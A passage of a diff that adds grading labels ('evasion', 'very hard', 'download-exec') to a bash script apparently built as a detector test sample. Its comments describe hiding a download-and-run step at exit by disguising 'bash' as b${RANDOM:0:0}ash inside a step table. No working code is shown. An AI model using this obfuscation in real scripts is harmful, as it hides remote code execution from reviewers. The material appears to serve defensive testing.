@@ -1,4 +1,6 @@
 #!/usr/bin/env bash
+# evasion: downloads and runs code at exit
+# grade: very hard; does: download-exec
 # Downloads and runs code at exit. A step table (associative array) maps step
 # names to commands; the "post" step's command is "bash" written as
 # b${RANDOM:0:0}ash; a function reads the table through a nameref and puts
